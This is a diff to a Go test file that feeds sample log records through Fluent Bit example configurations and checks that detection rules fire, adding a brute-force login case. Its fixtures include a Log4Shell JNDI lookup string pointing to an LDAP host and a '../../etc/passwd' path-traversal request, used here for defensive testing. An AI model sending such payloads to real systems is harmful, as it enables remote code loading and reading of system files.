@@ -17,6 +17,7 @@ func TestExamples(t *testing.T) {
 		t.Skip("no Fluent Bit: set $FLUENT_BIT or PATH")
 	}
 	shop := []byte(`{"ts":1717053408.9,"req":{"verb":"POST","target":"/login?x=1","hdr":["${jndi:ldap://10.9.9.9/a}"]},"peer":"10.0.0.7","body":"a=b"}`)
+	refused := []byte(`{"SRC_IP":"10.0.0.7","DST_IP":"10.0.0.8","METHOD":"POST","URL":"/api/login","RETCODE":"401","DOMAIN":"users","FORWARD":"0.0.0.0"}`)
 	for _, c := range []struct {
 		file   string
 		record []byte
@@ -27,6 +28,7 @@ func TestExamples(t *testing.T) {
 		{"threaded-processor.yaml", sample(t, "/internal/admin?t=../../etc/passwd"), []string{`"rule_id":"930100"`, `"rule_id":"100001"`}},
 		{"mapping.conf", shop, []string{`"src_ip":"10.0.0.7"`}},
 		{"access-log.conf", nil, []string{`"preset":"nginx"`}},
+		{"lateral-movement.conf", refused, []string{`"detector":"login-brute-force"`}},
 	} {
 		t.Run(c.file, func(t *testing.T) {
 			config, err := os.ReadFile(filepath.Join(rig.Root(), "examples", c.file))
@@ -43,7 +45,7 @@ func TestExamples(t *testing.T) {
 			if err := os.WriteFile(log, nil, 0o600); err != nil {
 				t.Fatal(err)
 			}
-			text := strings.ReplaceAll(string(config), "/var/log/nginx/access.log", log)
+			text := strings.NewReplacer("/var/log/nginx/access.log", log, "/var/lib/msa", dir).Replace(string(config))
 			fluentBit(t, dir, rig.WithPorts(text, map[int]int{
 				15155: in, 12201: syslog.LocalAddr().(*net.UDPAddr).Port, 2021: freePort(t),
 			}))
@@ -79,7 +81,7 @@ func TestExamples(t *testing.T) {
 	}
 	// An example that no case above runs is an example that nobody tried.
 	files, err := filepath.Glob(filepath.Join(rig.Root(), "examples", "*.conf"))
-	if err != nil || len(files) != 4 {
+	if err != nil || len(files) != 5 {
 		t.Errorf("%d examples, %v: add a case", len(files), err)
 	}
 }
